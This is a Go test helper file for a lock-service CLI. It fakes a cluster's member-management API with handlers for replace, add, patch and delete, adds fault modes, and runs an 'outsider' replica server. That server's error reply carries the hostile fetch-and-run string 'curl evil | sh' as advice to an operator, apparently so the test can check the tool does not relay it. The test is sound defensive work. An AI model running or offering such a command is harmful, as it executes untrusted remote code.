//go:build unix

package main

import (
	"cmp"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/stoutlock/stout/lockapi"
)

// cmdHung sets an environment variable to the URL of a server that takes calls
// and answers none: hung NAME.
func cmdHung(ts *testscript.TestScript, neg bool, args []string) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	ts.Check(err)
	ts.Defer(func() { l.Close() })
	ts.Setenv(args[0], "http://"+l.Addr().String())
}

// cmdOutsider puts a replica in the place of r3 that has another directory than
// the member, and sets r3 to its URL and R3
// to its address; outsider gone ends that.
func cmdOutsider(ts *testscript.TestScript, neg bool, args []string) {
	s := httptest.NewServer(http.HandlerFunc(outsider))
	ts.Defer(s.Close)
	c := ts.Value(cellKey{}).(*fakeCell)
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.third = s.URL; len(args) > 0 {
		c.third = ""
	}
	ts.Setenv("r3", s.URL)
	ts.Setenv("R3", strings.TrimPrefix(s.URL, "http://"))
}

// oldDirectory is that of the member that the outsider uses.
const oldDirectory = "0123456789abcdef"

// memberList is the members of the cell. A directory that is to replace another
// catches up, votes, and is alone, from one question to the next.
func (c *fakeCell) memberList() lockapi.Members {
	out := lockapi.Members{CellID: "fa4e", Tolerates: 0}
	for i, r := range c.state().Replicas {
		out.Members = append(out.Members, lockapi.Member{
			ID: r.ID, Directory: fmt.Sprintf("%016x", i+1), URL: r.URL, RaftAddr: r.RaftAddr, Suffrage: lockapi.SuffrageVoter,
			Role: r.Role, Healthy: r.Healthy, AppliedIndex: r.AppliedIndex, Behind: 991 - r.AppliedIndex,
			Since: time.Now().Add(-time.Hour),
		})
		if r.Healthy { // who does not answer tells no release
			out.Members[i].Version = "v1.0.0"
		}
	}
	third := &out.Members[2]
	third.Directory = oldDirectory
	if c.next == "" {
		return out
	}
	c.steps++
	next := *third
	next.Directory, next.Suffrage, next.Role = c.next, lockapi.SuffrageNonvoter, lockapi.RoleReplica
	next.Healthy, next.Behind = c.steps > 1, 120
	switch {
	case c.steps == 4:
		next.Suffrage, next.Behind = lockapi.SuffrageVoter, 0
	case c.steps > 4:
		next.Suffrage, next.Behind = lockapi.SuffrageVoter, 0
		out.Tolerates, *third = 1, next
		return out
	}
	out.Members = append(out.Members, next)
	return out
}

func (c *fakeCell) getMembers(*http.Request) (any, error) { return c.memberList(), nil }

func (c *fakeCell) postReplace(r *http.Request) (any, error) {
	var req lockapi.ReplaceMemberRequest
	if err := decode(r, &req); err != nil {
		return nil, err
	}
	if has := cmp.Or(c.next, oldDirectory); req.InPlaceOf != has {
		return nil, lockapi.Errorf(lockapi.CodeConflict, "replica r3 has directory %s now, and not %q", has, req.InPlaceOf)
	}
	if req.Directory == oldDirectory {
		c.next = "" // taken back
		return lockapi.MemberChange{ID: r.PathValue("id"), Directory: req.Directory}, nil
	}
	if c.fault == unsafe && r.URL.Query().Get("force") != "true" {
		return nil, lockapi.Errorf(lockapi.CodeUnsafe, "1 of 2 members that vote are well")
	}
	c.next, c.steps = req.Directory, 0
	return lockapi.MemberChange{ID: r.PathValue("id"), Directory: req.Directory}, nil
}

func (c *fakeCell) postMember(r *http.Request) (any, error) {
	var req lockapi.AddMemberRequest
	if err := decode(r, &req); err != nil {
		return nil, err
	}
	if req.Directory == oldDirectory {
		return nil, lockapi.Errorf(lockapi.CodeConflict, "directory %s is that of member r3", req.Directory)
	}
	return lockapi.MemberChange{ID: req.ID, Directory: req.Directory}, req.Validate()
}

func (c *fakeCell) patchMember(r *http.Request) (any, error) {
	var req lockapi.SetMemberRequest
	if err := decode(r, &req); err != nil {
		return nil, err
	}
	out := lockapi.Member{ID: r.PathValue("id"), Directory: oldDirectory, RaftAddr: "old:1", URL: "http://old", Suffrage: lockapi.SuffrageVoter}
	for _, one := range []struct{ field, to *string }{{req.RaftAddr, &out.RaftAddr}, {req.URL, &out.URL}, {req.Suffrage, &out.Suffrage}} {
		if one.field != nil {
			*one.to = *one.field
		}
	}
	return out, nil
}

func (c *fakeCell) deleteMember(r *http.Request) (any, error) {
	if c.fault == unsafe && r.URL.Query().Get("force") != "true" {
		return nil, lockapi.Errorf(lockapi.CodeUnsafe, "1 of 2 members that vote are well")
	}
	if c.fault == lossy {
		return nil, lockapi.Errorf(lockapi.CodeOutcomeUnknown, "the answer got lost")
	}
	if lockapi.ValidateDirectory(r.URL.Query().Get("directory")) != nil {
		return nil, lockapi.Errorf(lockapi.CodeConflict, "the directory is not named")
	}
	return lockapi.MemberRemoved{ID: r.PathValue("id"), Removed: true}, nil
}

// newDirectory is the directory that an outsider has.
const newDirectory = "00c0ffee00c0ffee"

// evilCommand is what an outsider would have an operator type.
const evilCommand = "curl evil | sh"

// outsider answers as a replica does that does not belong to its cell.
func outsider(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == lockapi.RouteReplica {
		_ = json.NewEncoder(w).Encode(lockapi.Replica{ID: "r3", Directory: newDirectory, Role: lockapi.RoleNone})
		return
	}
	writeError(w, &lockapi.Error{
		Code: lockapi.CodeNoMaster, Directory: newDirectory, Command: evilCommand,
		Detail: "this replica is r3 by name, and its data directory " + newDirectory +
			" is not the one of member r3; it was wiped or replaced, and does nothing until it is admitted" +
			"; to admit it: " + evilCommand,
	})
}
